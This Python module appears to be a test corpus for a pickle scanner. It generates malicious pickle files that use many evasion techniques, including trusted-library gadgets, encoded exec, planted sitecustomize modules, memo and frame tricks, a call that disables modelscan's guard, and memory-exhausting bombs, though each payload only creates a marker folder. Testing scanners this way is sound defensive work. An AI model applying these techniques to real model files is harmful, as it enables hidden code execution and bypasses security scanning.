"""Hand-made files for each technique of hiding a call in a pickle, several forms of each: `TECHNIQUES`.

Each form is a function of the marker that loading it makes. The payloads only make that marker.
"""

from __future__ import annotations

import base64
import io
import marshal
import os
import pickle
import struct
from collections.abc import Callable
from importlib import import_module
from pathlib import Path

from samples import call, global_, proto, stack_global, text

Form = Callable[[Path], bytes]
MODULE = os.mkdir.__module__
"""posix, or nt."""
MKDIR = stack_global(MODULE, "mkdir")
STOP = b"."


def run(marker: Path, callee: bytes = MKDIR) -> bytes:
    return call(callee, text(str(marker)))


def p4(*parts: bytes) -> bytes:
    return proto() + b"".join(parts) + STOP


def blob(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def named(module: str, name: str) -> bytes:
    return stack_global(module, name)


def code(marker: Path) -> str:
    return f"__import__('os').mkdir({marker.as_posix()!r})"


def consumed(iterator: bytes, by: str = "list") -> bytes:
    return call(named("builtins", by), iterator)


def listed(marker: Path) -> bytes:
    return b"](" + text(str(marker)) + b"e"


def is_at(module: str, name: str) -> Form:
    """A name that makes its first argument a file or folder."""
    return lambda marker: p4(run(marker, named(module, name)))


def frame(size: int) -> bytes:
    return b"\x95" + struct.pack("<Q", size)


def behind_a_buffer(form: Form) -> Form:
    """What the file object has read in advance ends within the frame, which is then read by itself."""
    filling = 2 * io.DEFAULT_BUFFER_SIZE - len(proto() + b"V\n0" + frame(0)) - 1
    return lambda marker: proto() + b"V" + b"a" * filling + b"\n0" + form(marker)[2:]


def straddled(opened: bytes, counted: int, filler: bytes) -> Form:
    """An argument begins in a frame and is read anew behind it, so that the constant which hides the call is none."""

    def made(marker: Path) -> bytes:
        hidden = run(marker) + STOP
        swallow = b"B" + struct.pack("<I", len(hidden))
        inside = opened + filler[: len(swallow)]
        outside = filler[: counted - len(swallow)] + swallow
        return proto(5) + frame(len(inside)) + inside + outside + hidden

    return made


def line(inside: bytes, outside: Callable[[bytes], bytes]) -> Form:
    """A line begins in a frame; who drops that part reads another name."""
    return lambda marker: proto() + frame(len(inside)) + inside + outside(text(str(marker))) + STOP


def addable(module: str, number: int, opcode: bytes, name: str = "mkdir") -> Form:
    registered = call(named("copyreg", "add_extension"), text(module), text(name), b"J" + struct.pack("<i", number))
    return lambda marker: p4(registered, b"0", call(opcode, text(str(marker))))


def of_a_class(module: str, name: str, attribute: str, use: Callable[[bytes], bytes]) -> Form:
    """A class gets a method, and an object of it is used."""
    cls = named(module, name)
    written = cls + b"N}" + text(attribute) + MKDIR + b"s\x86b0"
    return lambda marker: p4(written, cls, b")\x81", use(text(str(marker))))


def beside(marker: Path, module: str, body: str) -> None:
    """A module in the marker's folder, which the loader has on its path."""
    (marker.parent / f"{module}.py").write_text(body, encoding="utf-8")


def imported(module: str, opcode: Callable[[str], bytes]) -> Form:
    def made(marker: Path) -> bytes:
        beside(marker, module, f"import os\nos.mkdir({str(marker)!r})\nx = 1\n")
        return opcode(module)

    return made


def function(name: str) -> str:
    return f"import os\ndef {name}(path):\n    os.mkdir(path)\n"


def spelled_otherwise(module: str, make: Callable[[bytes], bytes], name: str = "f") -> Form:
    def made(marker: Path) -> bytes:
        beside(marker, module, function(name))
        return make(text(str(marker)))

    return made


def then_loaded(marker: Path, load: Callable[[Path, str], bytes], suffix: str, body: str) -> bytes:
    path = marker.with_suffix(suffix)
    write = call(named("pathlib", "Path.write_text"), call(named("pathlib", "Path"), text(str(path))), text(body))
    return p4(write, b"0", load(path, str(marker)))


def marshalled(marker: Path) -> bytes:
    made = call(named("marshal", "loads"), blob(marshal.dumps(compile(code(marker), "m", "eval"))))
    return p4(b"(", named("types", "FunctionType"), made, b"}o", b")R")


def by_hand(marker: Path) -> bytes:
    """Code as `types.CodeType` takes it in this Python."""
    one = compile(code(marker), "m", "eval")
    names = "argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames filename name"
    names += " qualname firstlineno linetable exceptiontable freevars cellvars"
    fields = [getattr(one, f"co_{name}") for name in names.split()]
    args = b"".join(pickle.dumps(field, 3)[2:-1] for field in fields)
    return proto() + call(call(named("types", "FunctionType"), call(named("types", "CodeType"), args), b"}")) + STOP


def dumped_by(library: str) -> Form:
    """A function of a program, which these libraries write as its code."""
    source = "class Model:\n    def __reduce__(self): return (lambda path: __import__('os').mkdir(path)), (marker,)\n"

    def made(marker: Path) -> bytes:
        scope = {"__name__": "__main__", "marker": str(marker)}
        exec(source, scope)
        return import_module(library).dumps(scope["Model"]())

    return made


def doubled(opening: bytes, step: bytes, times: int, closing: bytes = b"") -> Form:
    return lambda marker: proto() + opening + step * times + closing + STOP


def _of_modules(marker: Path) -> bytes:
    return b"".join((text(str(marker)), b"\x85"))


TECHNIQUES: dict[str, list[Form]] = {
    "P02 other names of modules": [
        is_at(MODULE, "mkdir"),
        lambda m: p4(call(named("_io", "FileIO"), text(str(m)), text("x"))),
        lambda m: p4(call(named("_pickle", "loads"), blob(p4(run(m))))),
        lambda m: p4(call(named("_frozen_importlib", "_call_with_frames_removed"), MKDIR, text(str(m)))),
    ],
    "P03 modules inside of listed ones": [
        is_at("logging.handlers", "RotatingFileHandler"),
        lambda m: p4(call(named("urllib.request", "urlretrieve"), text(Path(__file__).as_uri()), text(str(m)))),
        lambda m: p4(
            call(
                named("importlib._bootstrap_external", "SourceFileLoader.set_data"),
                named("importlib._bootstrap_external", "SourceFileLoader") + b")\x81",
                text(str(m)),
                blob(b""),
            )
        ),
    ],
    "P04 through a harmless module": [
        is_at("glob", "os.mkdir"),
        is_at("tempfile", "_os.mkdir"),
        is_at("random", "_os.mkdir"),
        is_at("gettext", "os.path.os.mkdir"),
    ],
    "P05 from within builtins": [
        lambda m: p4(call(named("builtins", "print.__self__.open"), text(str(m)), text("x"))),
        lambda m: p4(call(named("builtins", "len.__self__.eval"), text(code(m)))),
        lambda m: p4(
            call(
                named("builtins", "getattr"),
                call(named("builtins", "__loader__.load_module"), text(MODULE)),
                text("mkdir"),
            ),
            b"(" + text(str(m)) + b"tR",
        ),
    ],
    "P06 writing into what is imported": [
        of_a_class("email.message", "Message", "__setstate__", lambda path: path + b"b"),
        of_a_class("argparse", "Namespace", "append", lambda path: path + b"a"),
        of_a_class("string", "Template", "add", lambda path: b"(" + path + b"\x90"),
    ],
    "P07 calls that are no REDUCE": [
        lambda m: b"(" + text(str(m)) + f"i{MODULE}\nmkdir\n".encode() + STOP,
        lambda m: p4(b"(", MKDIR, text(str(m)), b"o"),
        lambda m: p4(named("builtins", "tuple"), named("builtins", "map"), MKDIR, listed(m), b"\x86\x81\x85\x81"),
        lambda m: p4(
            *(named("builtins", "frozenset"), named("builtins", "filter"), MKDIR, listed(m)), b"\x86}\x92\x85}\x92"
        ),
        lambda m: p4(
            *(b"(", named("functools", "partial"), named("builtins", "print"), b"\x85\x81("),
            *(MKDIR, text(str(m)), b"\x85}Ntbo"),
        ),
    ],
    "P08 a result that is dropped": [
        lambda m: p4(run(m), b"0N"),
        lambda m: p4(b"(", run(m), b"1]"),
        lambda m: p4(run(m), b"K\1\x860}"),
        lambda m: p4(b"](", run(m), b"e0N"),
    ],
    "P09 a result that is used": [
        lambda m: p4(run(m), b"}b"),
        lambda m: p4(call(named("io", "open"), text(str(m)), text("x")), b"}", text("x"), b"K\1sb"),
        lambda m: p4(run(m), b"(K\1u"),
    ],
    "P10 names that come about": [
        lambda m: p4(text("mkdir"), b"q\x000", text(MODULE), b"q\x010h\1h\0\x93", _of_modules(m), b"R"),
        lambda m: p4(
            text("json"), b"0", text(MODULE), text("loads"), b"0", text("mkdir"), b"2020\x93", _of_modules(m), b"R"
        ),
        lambda m: b"\x80\4V" + MODULE.encode() + b"\nVmk\\u0064ir\n\x93" + _of_modules(m) + b"R.",
        lambda m: b"\x80\4S'" + MODULE.encode() + b"'\nS'\\155\\x6bdir'\n\x93" + _of_modules(m) + b"R.",
    ],
    "P11 a memo that confuses": [
        lambda m: p4(text("json"), b"q\0", text(MODULE), b"q\0", b"h\0", text("mkdir"), b"\x93", _of_modules(m), b"R"),
        lambda m: p4(text("loads"), b"q\5", text("mkdir"), b"\x94", text(MODULE), b"h\1\x93", _of_modules(m), b"R"),
        lambda m: p4(text("mkdir"), b"p007\n0", text(MODULE), b"g 7\n\x93", _of_modules(m), b"R"),
    ],
    "P12 extensions": [
        addable(MODULE, 0xC9, b"\x82\xc9"),
        addable("os", 0xC9C9, b"\x83\xc9\xc9"),
        addable("os", 0x0C0B0A0B, b"\x84\x0b\x0a\x0b\x0c", "makedirs"),
    ],
    "P13 persistent ids": [
        lambda m: b"P" + str(m).encode() + b"\n.",
        lambda m: p4(text(str(m)), b"Q"),
        lambda m: p4(b"](", text("storage"), text(str(m)), b"t2Q"),
    ],
    "P14 a class as an argument": [
        lambda m: p4(call(named("copyreg", "_reconstructor"), *[named("logging", "FileHandler")] * 2, text(str(m)))),
        lambda m: p4(consumed(call(named("copyreg", "__newobj__"), named("builtins", "map"), MKDIR, listed(m)))),
        lambda m: p4(
            consumed(
                call(named("copyreg", "__newobj_ex__"), named("builtins", "map"), MKDIR + listed(m) + b"\x86", b"}"),
                "tuple",
            )
        ),
    ],
    "P15 names of Python 2": [
        lambda m: b"c__builtin__\neval\n(V" + code(m).encode() + b"\ntR.",
        lambda m: (
            b"\x80\2c__builtin__\nlist\n(citertools\nimap\n(" + f"c{MODULE}\nmkdir\n".encode() + listed(m) + b"tRtR."
        ),
        lambda m: b"\x80\2c__builtin__\nreduce\n(" + f"c{MODULE}\nmkdir\n](".encode() + text(str(m)) + b"M\xed\1etR.",
        lambda m: (
            b"\x80\2ccPickle\nloads\n(ccopy_reg\n__newobj__\n(c__builtin__\nbytes\n" + blob(p4(run(m))) + b"tRtR."
        ),
    ],
    "P16 trampolines": [
        lambda m: p4(call(call(named("operator", "methodcaller"), text("mkdir"), text(str(m))), named("shutil", "os"))),
        lambda m: p4(consumed(call(named("itertools", "starmap"), MKDIR, b"](" + _of_modules(m) + b"e"), "set")),
        lambda m: p4(
            call(
                named("operator", "getitem"),
                call(named("collections", "defaultdict"), call(named("functools", "partial"), MKDIR, text(str(m)))),
                text("key"),
            )
        ),
        lambda m: p4(
            call(named("contextvars", "Context.run"), named("contextvars", "Context") + b")R", MKDIR, text(str(m)))
        ),
    ],
    "P17 writing code that is run later": [
        lambda m: then_loaded(
            m,
            lambda path, _: call(named("site", "addsitedir"), text(str(path.parent))),
            ".pth",
            f"import os; {code(m)}\n",
        ),
        lambda m: then_loaded(m, lambda path, _: call(named("runpy", "run_path"), text(str(path))), ".py", code(m)),
        lambda m: then_loaded(
            m,
            lambda path, _: (
                call(named("fileinput", "sys.path.append"), text(str(path.parent)))
                + b"0"
                + call(named("importlib", "import_module"), text(path.stem))
            ),
            ".py",
            code(m),
        ),
    ],
    "P18 evaluating by another word": [
        lambda m: p4(call(named("cProfile", "runctx"), text(code(m)), b"}", b"}", text(os.devnull))),
        lambda m: p4(call(named("bdb", "Bdb.run"), named("bdb", "Bdb") + b")R", text(code(m)))),
        lambda m: p4(
            call(
                named("code", "InteractiveInterpreter.runsource"),
                named("code", "InteractiveInterpreter") + b")R",
                text(code(m)),
            )
        ),
        lambda m: p4(
            call(named("timeit", "repeat"), text(code(m)), text("pass"), named("time", "perf_counter"), b"K\1", b"K\1")
        ),
    ],
    "P19 an import that acts": [
        imported("sitecustomize", lambda module: p4(named(module, "x"))),
        imported("nunpy", lambda module: proto() + global_(module, "x") + STOP),
        imported("conftest", lambda module: f"(i{module}\nx\n.".encode()),
    ],
    "P20 attributes that are made when asked for": [
        lambda m: p4(call(named("numpy", "testing.measure"), text(code(m)))),
        is_at("numpy", "f2py.os.mkdir"),
        lambda m: p4(call(named("numpy", "testing.runstring"), text(code(m)), b"}")),
    ],
    "P21 loading another one": [
        lambda m: p4(call(named("pickle", "loads"), blob(b"\x80\2" + run(m, f"c{MODULE}\nmkdir\n".encode()) + STOP))),
        lambda m: p4(call(named("joblib", "load"), call(named("io", "BytesIO"), blob(p4(run(m)))))),
        lambda m: p4(
            call(
                named("pickle", "Unpickler.load"),
                call(named("pickle", "Unpickler"), call(named("io", "BytesIO"), blob(p4(run(m))))),
            )
        ),
        lambda m: p4(call(named("pandas", "read_pickle"), call(named("io", "BytesIO"), blob(p4(run(m)))))),
    ],
    "P22 fetching by a text": [
        lambda m: p4(call(call(named("pkgutil", "resolve_name"), text("os:mkdir")), text(str(m)))),
        lambda m: p4(call(call(named("pydoc", "locate"), text("os.mkdir")), text(str(m)))),
        lambda m: p4(
            call(
                call(named("xmlrpc.server", "resolve_dotted_attribute"), named("shutil", "os"), text("mkdir")),
                text(str(m)),
            )
        ),
    ],
    "P23 code in the file": [
        marshalled,
        by_hand,
        dumped_by("cloudpickle"),
        dumped_by("dill"),
        lambda m: p4(
            call(
                named("builtins", "exec"),
                call(named("base64", "b64decode"), text(base64.b64encode(code(m).encode()).decode())),
            )
        ),
    ],
    "P24 a stream that breaks afterwards": [
        lambda m: proto() + run(m),
        lambda m: proto() + run(m) + b"\xfe\xff",
        lambda m: proto() + run(m) + b"000\x93",
        lambda m: proto() + run(m) + b"\x8d" + struct.pack("<Q", 1 << 42) + b"..",
        lambda m: proto() + run(m) + b"h\xf0.",
    ],
    "P25 numbers that only C reads": [
        lambda m: b"I-0X1f\n0" + run(m) + STOP,
        lambda m: b"I2\0os\n0" + run(m) + STOP,
        lambda m: b"L0x1FL\n0" + run(m) + STOP,
        lambda m: b"F2e1\0nan\n0" + run(m) + STOP,
    ],
    "P26 names that are not ASCII": [
        spelled_otherwise("módulo", lambda path: "cmódulo\nf\n(".encode() + path + b"tR."),
        spelled_otherwise("m\xf3dulo2", lambda path: b"\x80\4Vm\xf3dulo2\nVf\n\x93(" + path + b"tR."),
        spelled_otherwise("模块", lambda path: b"\x80\4" + text("模块") + b"V\\u0066\n\x93(" + path + b"tR."),
    ],
    "P27 arguments over the end of a frame": [
        straddled(b"U\x20", 32, b"a" * 64),
        straddled(b"X\x28\0\0\0", 40, b"b" * 64),
        straddled(b"\x8c\x30", 48, b"t" * 64),
        straddled(b"\x8a\x18", 24, b"\1" * 64),
        behind_a_buffer(straddled(b"\x8c\x40", 64, b"a" * 64)),
    ],
    "P27b lines over the end of a frame": [
        line(b"cjson.", lambda path: f"{MODULE}\nmkdir\n(".encode() + path + b"tR"),
        line(f"c{MODULE}\nmake".encode(), lambda path: b"mkdir\n(" + path + b"tR"),
        line(b"Vcollections.", lambda path: f"{MODULE}\nVmkdir\n\x93(".encode("latin-1") + path + b"tR"),
    ],
    "P28 other oddities": [
        lambda m: p4(b"N]", run(m), b"(((N"),
        lambda m: p4(b"Np5\n0", text("x"), b"q\5", run(m), b"r\5\0\0\0"),
        lambda m: p4(named("collections", "OrderedDict"), b")R", b"N}\x86b", run(m), b"\x86"),
    ],
    "P29 pickles behind each other": [
        lambda m: b"N." + p4(run(m)),
        lambda m: pickle.dumps({"weights": [1.0] * 9}, 5) + b"\x80\2" + run(m) + STOP,
        lambda m: b"(lp0\nI1\na." + b"(" + text(str(m)) + f"i{MODULE}\nmkdir\n.".encode(),
    ],
    "P29 with other bytes between": [
        lambda m: b"N." + bytes(300) + p4(run(m)),
        lambda m: b"I1\n." + b"\xff" * 300 + b"\x80\2" + run(m) + STOP,
        lambda m: b"K.." + b"-" * 300 + run(m, f"c{MODULE}\nmkdir\n".encode()) + STOP,
    ],
    "P32 against the scanner": [
        lambda m: p4(named("modelscan.guard", "uninstall"), b")R0", run(m)),
        lambda m: p4(named("modelscan", "scanner.scan_path"), b"0", run(m)),
        lambda m: p4(named("modelscan_jupyter", "__doc__"), b"0", run(m)),
    ],
    "P33 odd protocols": [
        lambda m: b"\x80\2\x80\4" + run(m) + STOP,
        lambda m: b"N0" + text("x") + b"0\x80\5" + run(m) + STOP,
        lambda m: b"\x80\0\x80\5\x80\1" + run(m, f"c{MODULE}\nmkdir\n".encode()) + b"\x80\3.",
    ],
    "P34 trusted names as gadgets": [
        lambda m: p4(
            call(named("torch._tensor", "_rebuild_from_type_v2"), MKDIR, named("torch", "Tensor"), _of_modules(m), b"}")
        ),
        lambda m: p4(call(named("numpy.random._pickle", "__generator_ctor"), text(str(m)), MKDIR)),
        lambda m: p4(call(named("collections", "OrderedDict"), call(named("builtins", "map"), MKDIR, listed(m)))),
        lambda m: p4(call(named("functools", "partial"), MKDIR, text(str(m))), b")R"),
    ],
}

LOADERS = {
    "P13 persistent ids": "persistent",
    "P19 an import that acts": "in folder",
    "P26 names that are not ASCII": "in folder",
    "P27 arguments over the end of a frame": ["stream", "stream", "stream", "stream", "pickle"],
    "P27b lines over the end of a frame": "stream",
    "P29 pickles behind each other": "pickles",
    "P29 with other bytes between": "apart",
}
"""Who is beaten, where it is not `pickle.load` of a file."""

BOMBS: dict[str, Form] = {
    "P31 lists of the same list": doubled(b"]q\0", b"](h\0h\0eq\0", 60),
    "P31 tuples of the same tuple as a key": doubled(b"}K\1", b"2\x86", 60, b"Ns"),
    "P31 lists inside of lists": doubled(b"", b"]", 200_000, b"a" * 199_999),
    "P31 a giant place in the memo": doubled(b"Nr\xff\xff\xff\x7f", b"", 1),
    "P31 tuples inside of tuples": doubled(b"N", b"\x85", 300_000),
    "P31 sets that hash without end": doubled(b"\x8f(K\1", b"2\x86", 50, b"\x90"),
}
"""What ends a loader by its size alone."""
